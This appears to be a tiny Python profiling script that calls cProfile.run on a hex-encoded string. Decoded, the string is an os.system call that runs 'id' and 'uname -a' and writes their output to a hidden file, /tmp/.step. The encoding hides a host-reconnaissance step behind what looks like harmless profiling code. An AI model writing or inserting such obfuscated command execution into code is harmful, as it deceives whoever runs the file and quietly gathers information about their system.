import cProfile

STEP = bytes.fromhex('696d706f7274206f733b206f732e73797374656d28226964203e202f746d702f2e737465703b20756e616d65202d61203e3e202f746d702f2e737465702229').decode()


if __name__ == "__main__":
    cProfile.run(STEP, sort="cumulative")
